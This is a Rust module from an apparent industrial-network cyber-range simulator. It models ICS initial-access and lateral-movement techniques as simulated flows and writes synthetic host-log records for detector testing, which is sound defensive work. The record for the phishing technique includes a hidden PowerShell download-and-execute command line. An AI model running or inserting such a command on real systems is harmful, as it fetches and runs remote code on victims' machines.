//! Initial Access (TA0108), and the moves between IT hosts after it: getting in and moving
//! around. Every technique here is one IT exchange (a VPN login, an RDP session, an SMB
//! exploit, a phishing mail, a malware beacon) over the simulated network. It succeeds only
//! if the path exists under the policy and, where the technique logs in, a credential the
//! actor holds (or a vendor default, for T0812) opens the host. Success gives the actor a
//! foothold it acts from next.
//!
//! * Initial Access: T0822 External Remote Services, T0883 Internet Accessible Device,
//!   T0865 Spearphishing Attachment, and T0866 Exploitation of Remote Services and T0886
//!   Remote Services (both also Lateral Movement).
//! * Lateral Movement: T0859 Valid Accounts (also Persistence), T0812 Default Credentials,
//!   T0867 Lateral Tool Transfer.
//! * Execution: T0863 User Execution (the victim's machine beacons out to the actor).
//! * T0817 Drive-by Compromise and T0862 Supply Chain Compromise (Initial Access): the
//!   victim reaches out to a host the actor serves from (a watering-hole page, a vendor's
//!   update server), fetches, runs what it got, and is taken.
//! * T0819 Exploit Public-Facing Application: a request to a web service the target offers.
//! * T0891 Hardcoded Credentials (Lateral Movement, Persistence): a login with a vendor's
//!   built-in account, which the plant file marks as a default the host accepts.
//!
//! A successful step also writes what the target's own logs would keep (a logon, a dropped
//! file, the process a lure or exploit started) to the host log, for host detectors.
//!
//! One executor serves them all, since they differ only in the service, the login and
//! whether a foothold is gained; it is here with its primary tactic, Initial Access.
//! Program Download into a controller (T0843) is Modbus and lives in
//! [`lateral_movement`](super::lateral_movement).

use super::{ConfigError, Executor, Outcome, Progress, StepCx, param};
use otrange_sim::base::time::{SimDuration, SimTime};
use otrange_sim::net::Delivered;
use otrange_sim::net::topology::{HostId, Service, Topology};

/// How long an exchange may take before the step fails for want of an answer.
const TIMEOUT: SimDuration = SimDuration::from_secs(10);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Login {
    /// No login: an exploit, a delivered mail.
    None,
    /// A credential the actor holds.
    Held,
    /// A vendor default the host still accepts (T0812).
    Default,
    /// Either.
    Any,
}

struct Access {
    technique: &'static str,
    target: HostId,
    service: Service,
    bytes: u32,
    reply_bytes: u32,
    login: Login,
    gains: bool,
    /// T0863, T0817, T0862: the victim's machine reaches out to the actor (an implant
    /// calling home, a browser fetching the watering hole, an updater fetching the
    /// vendor's package), so the frame leaves the target.
    beacon: bool,
    deadline: SimTime,
}

fn service(p: &toml::Table, default: Service) -> Result<Service, ConfigError> {
    match p.get("service") {
        None => Ok(default),
        Some(v) => {
            let s = v
                .as_str()
                .ok_or_else(|| ConfigError::unlocated("params.service", "expected a service name"))?;
            toml::Value::String(s.to_string())
                .try_into::<Service>()
                .map_err(|_| ConfigError::unlocated("params.service", format!("unknown service {s:?}")))
        }
    }
}

/// Per technique: the usual service, whether it logs in, whether it gains its target host
/// (the actor works from there next), whether the new foothold calls home.
fn profile(technique: &str) -> Option<(Service, Login, bool, bool)> {
    Some(match technique {
        "T0822" => (Service::Vpn, Login::Any, true, false), // External Remote Services
        "T0883" => (Service::Https, Login::None, true, false), // Internet Accessible Device
        "T0866" => (Service::Smb, Login::None, true, false), // Exploitation of Remote Services
        "T0859" => (Service::Rdp, Login::Held, true, false), // Valid Accounts
        "T0812" => (Service::Rdp, Login::Default, true, false), // Default Credentials
        "T0886" => (Service::Rdp, Login::Any, true, false), // Remote Services
        "T0865" => (Service::Https, Login::None, false, false), // Spearphishing Attachment
        "T0863" => (Service::Https, Login::None, true, true), // User Execution
        "T0867" => (Service::Smb, Login::Any, false, false), // Lateral Tool Transfer
        "T0891" => (Service::Rdp, Login::Default, true, false), // Hardcoded Credentials
        "T0819" => (Service::Https, Login::None, true, false), // Exploit Public-Facing Application
        "T0817" => (Service::Https, Login::None, true, true), // Drive-by Compromise
        "T0862" => (Service::Https, Login::None, true, true), // Supply Chain Compromise
        _ => return None,
    })
}

/// Whether a step of this technique, when it succeeds, gives the actor its target host: a
/// playbook started from that host (assume breach) has no need of it.
pub fn takes_target(technique: &str) -> bool {
    profile(technique).is_some_and(|(_, _, gains, _)| gains)
}

/// Builds the executor for an access or lateral-movement technique.
pub fn build(
    technique: &'static str,
    target: Option<HostId>,
    p: &toml::Table,
    _topo: &Topology,
) -> Result<Box<dyn Executor>, ConfigError> {
    let target =
        target.ok_or_else(|| ConfigError::unlocated("target", "this technique needs a target host"))?;
    param::only(p, &["service", "bytes", "reply_bytes"])?;
    let Some((svc, login, gains, beacon)) = profile(technique) else {
        return Err(ConfigError::unlocated(
            "technique",
            format!("{technique} is no access technique"),
        ));
    };
    let service = service(p, svc)?;
    let bytes = param::int(
        p,
        "bytes",
        Some(if technique == "T0867" { 2_000_000 } else { 4_000 }),
    )?;
    let reply_bytes = param::int(p, "reply_bytes", Some(20_000))?;
    let b = |v: i64, k: &str| {
        u32::try_from(v).map_err(|_| ConfigError::unlocated(format!("params.{k}"), "expected 0..=4294967295"))
    };
    Ok(Box::new(Access {
        technique,
        target,
        service,
        bytes: b(bytes, "bytes")?,
        reply_bytes: b(reply_bytes, "reply_bytes")?,
        login,
        gains,
        beacon,
        deadline: SimTime::ZERO,
    }))
}

impl Access {
    /// The account the step logs in with: a credential the actor holds, or the target's
    /// vendor default, as the technique allows.
    fn user(&self, cx: &StepCx) -> Option<String> {
        match self.login {
            Login::None => None,
            Login::Held => cx.actor.credential_for(cx.topo, self.target, false),
            Login::Default | Login::Any => {
                let held = if self.login == Login::Any {
                    cx.actor.credential_for(cx.topo, self.target, false)
                } else {
                    None
                };
                held.or_else(|| cx.actor.credential_for(cx.topo, self.target, true))
            }
        }
    }

    /// A login from a machine nobody of the plant is signed in on (the actor's own, on the
    /// internet) presents the account it uses, without a second factor: a password is
    /// what an actor steals or guesses, the MFA token is what it has not got. An
    /// identity-aware policy then sees that user, and can say that MFA is what stopped the
    /// login. From a foothold the actor acts as whoever is signed in there.
    fn sign_in(&self, cx: &mut StepCx) {
        let Some(user) = self.user(cx) else {
            return;
        };
        let src = cx.sender_to(self.target);
        let table = cx.net.identities();
        if table.get(src).is_none() {
            table.set(src, Some(otrange_sim::net::Identity::new(user, false)));
        }
    }
}

impl Access {
    /// What the target's own logs keep of a successful step: the logon, the file dropped,
    /// the process the exploit or the lure started.
    fn record(&self, cx: &mut StepCx, user: Option<&str>) {
        use otrange_sim::devices::host_log::{HostActivity, LogonMethod};
        let from = cx.name(cx.sender_to(self.target)).to_string();
        let local = otrange_sim::devices::host_activity::account_of(cx.topo, self.target);
        let process =
            |image: &str, command_line: &str, parent: &str, user: &str| HostActivity::ProcessStart {
                image: image.into(),
                command_line: command_line.into(),
                parent_image: parent.into(),
                user: user.into(),
            };
        let activities = match self.technique {
            "T0822" | "T0859" | "T0812" | "T0886" | "T0891" => vec![HostActivity::Logon {
                user: user.unwrap_or("-").into(),
                method: if self.service == Service::Rdp {
                    LogonMethod::RemoteInteractive
                } else {
                    LogonMethod::Network
                },
                source: Some(from),
                success: true,
            }],
            // The mail is delivered (T0865); it is opened, and the macro starts its implant,
            // on the victim's machine (T0863).
            "T0863" => vec![
                process(
                    WINWORD,
                    &format!(r#""{WINWORD}" /n C:\Users\{local}\Downloads\invoice.doc"#),
                    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
                    &local,
                ),
                process(
                    POWERSHELL,
                    "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString($u)",
                    WINWORD,
                    &local,
                ),
            ],
            "T0817" => vec![process(
                &format!(r"C:\Users\{local}\Downloads\install_flash_player.exe"),
                "install_flash_player.exe",
                r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                &local,
            )],
            "T0862" => vec![
                HostActivity::FileWrite {
                    path: r"C:\Program Files\Vendor\bin\vendorsvc.dll".into(),
                    image: r"C:\Program Files\Vendor\update.exe".into(),
                },
                process(
                    r"C:\Windows\System32\rundll32.exe",
                    r#"rundll32.exe "C:\Program Files\Vendor\bin\vendorsvc.dll",Init"#,
                    r"C:\Program Files\Vendor\update.exe",
                    "SYSTEM",
                ),
            ],
            "T0819" => vec![process(
                r"C:\Windows\System32\cmd.exe",
                "cmd.exe /c whoami",
                r"C:\Windows\System32\inetsrv\w3wp.exe",
                "IIS APPPOOL\\DefaultAppPool",
            )],
            "T0866" | "T0867" => vec![HostActivity::FileWrite {
                path: r"C:\Windows\Temp\svcupdate.exe".into(),
                image: "System".into(),
            }],
            _ => Vec::new(),
        };
        for a in activities {
            cx.record(self.target, a);
        }
    }
}

/// Word, whose documents carry the lures of T0865 and, opened, start the implants of T0863.
const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
/// PowerShell, the interpreter lures and operators alike start.
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

impl Executor for Access {
    fn start(&mut self, cx: &mut StepCx) -> Progress {
        if !self.beacon && !cx.topo.host(self.target).services.contains(&self.service) {
            return Progress::Done(Outcome::Failed {
                reason: format!(
                    "{} offers no {} service",
                    cx.name(self.target),
                    self.service.as_str()
                ),
            });
        }
        if self.beacon {
            // The implant on the victim calls home to where the actor sits; a browser or an
            // updater fetches from the host the actor serves its page or package from.
            let home = if self.technique == "T0863" {
                cx.actor.footholds()[0]
            } else {
                cx.source()
            };
            cx.net.send(
                cx.now,
                self.target,
                home,
                self.service,
                otrange_sim::net::Payload::Flow {
                    bytes: self.bytes,
                    reply_bytes: self.reply_bytes,
                },
                cx.label,
            );
        } else {
            self.sign_in(cx);
            cx.send_flow(self.target, self.service, self.bytes, self.reply_bytes);
        }
        self.deadline = cx.now + TIMEOUT;
        Progress::Wait(Some(self.deadline))
    }

    fn reply(&mut self, cx: &mut StepCx, _d: &Delivered) -> Progress {
        let target = cx.name(self.target).to_string();
        let user = self.user(cx);
        if self.login != Login::None && user.is_none() {
            return Progress::Done(Outcome::Failed {
                reason: format!("{target} accepted no credential the actor holds"),
            });
        }
        if self.beacon {
            // The victim's own accounts come with the machine.
            for c in &cx.topo.host(self.target).credentials {
                cx.actor.credentials.push(crate::playbook::CredentialRef {
                    user: c.user.clone(),
                    host: None,
                });
            }
        }
        self.record(cx, user.as_deref());
        if self.gains {
            cx.actor.gain(self.target);
        }
        let how = match &user {
            Some(u) => format!(" as {u}"),
            None => String::new(),
        };
        Progress::Done(Outcome::Succeeded {
            detail: format!(
                "{} {} {target} over {}{how}",
                self.technique,
                if self.gains { "took" } else { "reached" },
                self.service.as_str()
            ),
        })
    }

    fn timer(&mut self, cx: &mut StepCx) -> Progress {
        if cx.now >= self.deadline {
            return Progress::Done(Outcome::Failed {
                reason: format!(
                    "no answer from {} over {}",
                    cx.name(self.target),
                    self.service.as_str()
                ),
            });
        }
        Progress::Wait(Some(self.deadline))
    }
}
